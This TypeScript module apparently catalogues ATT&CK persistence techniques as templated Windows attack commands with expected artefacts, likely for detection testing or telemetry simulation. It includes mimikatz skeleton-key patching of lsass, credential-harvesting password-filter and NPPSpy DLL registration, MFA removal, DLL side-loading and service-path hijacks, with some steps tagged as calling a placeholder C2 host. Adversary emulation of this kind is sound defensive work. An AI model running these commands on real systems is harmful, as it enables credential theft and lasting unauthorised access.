import { t, v } from "../dsl";

const LSA = "HKLM\\System\\CurrentControlSet\\Control\\Lsa";

/** Persistence, continued: authentication hooks and execution-flow hijacks. */
export const persistence3 = [
  t(
    "T1554",
    "Compromise host software binary",
    "A legitimate application binary replaced with a trojanised copy.",
    [
      v(
        "replace-binary",
        [
          {
            cmd: 'cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe "C:\\Program Files\\7-Zip\\7zFM.exe"',
            files: ["C:\\Program Files\\7-Zip\\7zFM.exe"],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1556", "Modify authentication process", "Authentication components patched or extended.", [
    v("mimikatz-skeleton", ['{{tools}}\\mimikatz.exe "privilege::debug" "misc::skeleton" exit'], {
      elevated: true,
      user: "@admin",
    }),
  ]),
  t("T1556.001", "Domain controller authentication", "Skeleton key patched into lsass on a DC.", [
    v(
      "skeleton-key",
      [
        {
          cmd: '{{tools}}\\mimikatz.exe "privilege::debug" "misc::skeleton" exit',
          access: ["@lsass", "0x1f3fff"],
        },
      ],
      { elevated: true, user: "@admin" },
    ),
  ]),
  t("T1556.002", "Password filter DLL", "A DLL added to Lsa Notification Packages.", [
    v(
      "reg-notification",
      [
        {
          cmd: `reg add "${LSA}" /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\\0{{rand}}" /f`,
          reg: [[LSA, "Notification Packages", "scecli {{rand}}", "REG_MULTI_SZ"]],
        },
        {
          cmd: "cmd.exe /c copy {{tools}}\\{{rand}}.dll C:\\Windows\\System32\\",
          files: ["C:\\Windows\\System32\\{{rand}}.dll"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1556.005", "Reversible encryption", "AllowReversiblePasswordEncryption set on an account.", [
    v(
      "set-aduser",
      [
        {
          ps: "Set-ADUser -Identity {{user}} -AllowReversiblePasswordEncryption $true",
          then: [{ id: "c", kind: "account.change", user: "@user" }],
        },
      ],
      { shell: "ps", user: "@admin" },
    ),
  ]),
  t("T1556.006", "Multi-factor authentication", "MFA disabled or a method added for an account.", [
    v(
      "msol",
      [
        {
          ps: "Set-MsolUser -UserPrincipalName {{user}}@{{dns}} -StrongAuthenticationRequirements @()",
          net: [["provisioningapi.microsoftonline.com", 443]],
        },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1556.007", "Hybrid identity", "The Azure AD Connect PTA agent or AD FS hooked.", [
    v("aadinternals-pta", [{ ps: "Install-AADIntPTASpy", files: ["C:\\PTASpy\\PTASpy.dll"] }], {
      shell: "ps",
      elevated: true,
    }),
  ]),
  t("T1556.008", "Network provider DLL", "A credential-harvesting network provider (NPPSpy) registered.", [
    v(
      "nppspy",
      [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\NPPSpy\\NetworkProvider" /v ProviderPath /t REG_EXPAND_SZ /d "%SystemRoot%\\System32\\NPPSPY.dll" /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\NPPSpy\\NetworkProvider",
              "ProviderPath",
              "%SystemRoot%\\System32\\NPPSPY.dll",
              "REG_EXPAND_SZ",
            ],
          ],
        },
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\NetworkProvider\\Order" /v ProviderOrder /t REG_SZ /d "RDPNP,LanmanWorkstation,webclient,NPPSpy" /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Control\\NetworkProvider\\Order",
              "ProviderOrder",
              "RDPNP,LanmanWorkstation,webclient,NPPSpy",
            ],
          ],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1574", "Hijack execution flow", "A DLL planted next to a signed executable.", [
    v("sideload", [
      { cmd: "{{appdata}}\\{{rand}}\\{{name}}.exe", loads: ["{{appdata}}\\{{rand}}\\version.dll"] },
    ]),
  ]),
  t(
    "T1574.001",
    "DLL",
    "DLL side-loading and search-order hijacks: a signed EXE copied to a user folder loads a planted DLL.",
    [
      v("sideload-copied-binary", [
        {
          cmd: "cmd.exe /c copy C:\\Windows\\System32\\{{WerFault|consent|dxcap}}.exe {{appdata}}\\{{rand}}\\",
          files: ["{{appdata}}\\{{rand}}\\WerFault.exe", "{{appdata}}\\{{rand}}\\dbghelp.dll"],
        },
        {
          cmd: "{{appdata}}\\{{rand}}\\WerFault.exe",
          loads: ["{{appdata}}\\{{rand}}\\dbghelp.dll"],
          net: [["{{c2}}", 443]],
        },
      ]),
      v(
        "phantom-dll",
        [
          {
            cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}.dll C:\\Windows\\System32\\wlbsctrl.dll",
            files: ["C:\\Windows\\System32\\wlbsctrl.dll"],
          },
        ],
        { elevated: true },
      ),
      v(
        "onedrive-version",
        [
          { by: "@explorer", files: ["{{local}}\\Microsoft\\OneDrive\\version.dll"] },
          {
            cmd: "{{local}}\\Microsoft\\OneDrive\\OneDrive.exe /background",
            parent: "@explorer",
            loads: ["{{local}}\\Microsoft\\OneDrive\\version.dll"],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1574.005", "Installer file permissions weakness", "A writable installer directory's EXE replaced.", [
    // An elevated installer unpacks into the user's %TEMP% and then runs what it unpacked; the user-level
    // implant swaps the file in between, so the payload starts with the installer's High integrity.
    v(
      "replace",
      [
        {
          cmd: '"{{downloads}}\\{{$app}}Setup.exe" /S',
          parent: "@explorer",
          elevated: true,
          as: "inst",
          files: ["{{tmp}}\\{{rand2}}\\setup.exe"],
        },
        {
          cmd: "cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe {{tmp}}\\{{rand2}}\\setup.exe",
          files: ["{{tmp}}\\{{rand2}}\\setup.exe"],
        },
        { cmd: '"{{tmp}}\\{{rand2}}\\setup.exe" /install /quiet', parent: "inst", elevated: true },
      ],
      { vars: { app: "{{Zoom|Webex|VLC|7-Zip}}" } },
    ),
  ]),
  t("T1574.007", "PATH interception", "A binary planted in an early PATH directory.", [
    v("path-plant", [
      {
        cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}.exe C:\\Python311\\Scripts\\net.exe",
        files: ["C:\\Python311\\Scripts\\net.exe"],
      },
    ]),
    v("setx-path", ['setx PATH "{{appdata}}\\bin;%PATH%"']),
  ]),
  t(
    "T1574.008",
    "Search order hijacking",
    "A DLL planted in an application directory searched first, or an EXE found first in the working directory.",
    [
      v("app-dir", [
        {
          cmd: 'cmd.exe /c copy {{tmp}}\\{{rand}}.dll "{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"',
          files: ["{{local}}\\Microsoft\\Teams\\current\\CRYPTSP.dll"],
        },
      ]),
      // Hexacorn's SettingSyncHost trick: its diagnostics mode runs "cmd.exe /c RoamDiag.cmd" in the current
      // directory, and the script's bare "reg" resolves to a reg.exe planted there before System32.
      v(
        "settingsynchost-reg",
        [
          {
            cmd: "cmd.exe /c copy /y {{downloads}}\\{{rand}}.exe {{local}}\\{{$dir}}\\reg.exe",
            files: ["{{local}}\\{{$dir}}\\reg.exe"],
          },
          {
            cmd: "C:\\Windows\\System32\\SettingSyncHost.exe -LoadAndRunDiagScriptNoCab {{rand2}}",
            as: "ssh",
            cwd: "{{local}}\\{{$dir}}",
          },
          {
            cmd: 'C:\\Windows\\system32\\cmd.exe /c RoamDiag.cmd -outputpath "{{local}}\\{{$dir}}\\out"',
            parent: "ssh",
            as: "roam",
            cwd: "{{local}}\\{{$dir}}",
          },
          {
            cmd: 'reg  export HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\SettingSync "{{local}}\\{{$dir}}\\out\\SettingSync.reg"',
            image: "{{local}}\\{{$dir}}\\reg.exe",
            parent: "roam",
            net: [["{{c2}}", 443]],
          },
        ],
        { vars: { dir: "{{SyncDiag|Packages\\Diag|Programs\\Sync}}" } },
      ),
    ],
  ),
  t("T1574.009", "Unquoted path", "C:\\Program.exe planted for an unquoted service path.", [
    v(
      "program-exe",
      [
        { cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}.exe C:\\Program.exe", files: ["C:\\Program.exe"] },
        "wmic service get name,displayname,pathname,startmode",
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1574.010",
    "Service file permissions weakness",
    "A writable service binary replaced and the service restarted.",
    [
      v("replace-service-binary", [
        'icacls "C:\\Program Files\\{{name}}\\service.exe"',
        {
          cmd: 'cmd.exe /c copy /y {{tmp}}\\{{rand}}.exe "C:\\Program Files\\{{name}}\\service.exe"',
          files: ["C:\\Program Files\\{{name}}\\service.exe"],
        },
        "sc stop {{name}}",
        "sc start {{name}}",
      ]),
    ],
  ),
  t(
    "T1574.011",
    "Services registry permissions weakness",
    "A service ImagePath rewritten through weak registry ACLs.",
    [
      v("reg-imagepath", [
        {
          cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{name}}" /v ImagePath /t REG_EXPAND_SZ /d "C:\\ProgramData\\{{rand}}.exe" /f',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{name}}",
              "ImagePath",
              "C:\\ProgramData\\{{rand}}.exe",
              "REG_EXPAND_SZ",
            ],
          ],
        },
      ]),
      v("sc-config", ['sc config {{name}} binpath= "C:\\ProgramData\\{{rand}}.exe"']),
    ],
  ),
  t(
    "T1574.012",
    "COR_PROFILER",
    "COR_ENABLE_PROFILING and COR_PROFILER_PATH set to load a DLL into .NET processes.",
    [
      v("setx", [
        { cmd: "setx COR_ENABLE_PROFILING 1", reg: [["HKCU\\Environment", "COR_ENABLE_PROFILING", "1"]] },
        {
          cmd: "setx COR_PROFILER {{{rand2}}-0000-0000-0000-000000000000}",
          reg: [["HKCU\\Environment", "COR_PROFILER", "{{{rand2}}-0000-0000-0000-000000000000}"]],
        },
        {
          cmd: "setx COR_PROFILER_PATH {{appdata}}\\{{rand}}.dll",
          reg: [["HKCU\\Environment", "COR_PROFILER_PATH", "{{appdata}}\\{{rand}}.dll"]],
        },
      ]),
      v(
        "system-env",
        [
          {
            cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment" /v COR_PROFILER_PATH /t REG_SZ /d C:\\ProgramData\\{{rand}}.dll /f',
            reg: [
              [
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment",
                "COR_PROFILER_PATH",
                "C:\\ProgramData\\{{rand}}.dll",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1574.013", "KernelCallbackTable", "The callback table of a GUI process overwritten to run code.", [
    v("kct", [{ cmd: "{{tmp}}\\{{name}}.exe", access: ["@explorer", "0x1f0fff"] }]),
  ]),
  t("T1574.014", "AppDomainManager", "A .config file making a .NET app load an attacker AppDomainManager.", [
    v(
      "config",
      [
        {
          cmd: "cmd.exe /c copy {{tmp}}\\{{rand}}.config C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\UevAppMonitor.exe.config",
          files: ["C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\UevAppMonitor.exe.config"],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1653", "Power settings", "Sleep and hibernation disabled with powercfg to keep the host reachable.", [
    v(
      "powercfg",
      ["powercfg /change standby-timeout-ac 0", "powercfg /change hibernate-timeout-ac 0", "powercfg -h off"],
      { elevated: true },
    ),
  ]),
  t("T1668", "Exclusive control", "Other malware or remote tools killed to keep the host to oneself.", [
    v("taskkill", ['taskkill /f /im "xmrig.exe"', 'taskkill /f /im "AnyDesk.exe"'], { elevated: true }),
  ]),
];
